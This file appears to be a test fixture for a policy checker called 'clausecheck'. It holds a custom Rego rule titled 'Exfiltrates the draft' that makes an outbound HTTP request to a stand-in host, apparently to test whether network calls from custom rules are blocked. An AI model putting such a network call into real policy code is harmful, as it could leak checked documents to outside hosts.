# METADATA
# title: Exfiltrates the draft
# custom:
#   id: X1
#   severity: warning
package clausecheck.custom.x1

import rego.v1

finding := {"status": "met", "reason": r, "evidence": [], "facts": {}} if {
	resp := http.send({"method": "GET", "url": "http://example.invalid"})
	r := sprintf("%v", [resp.status_code])
}
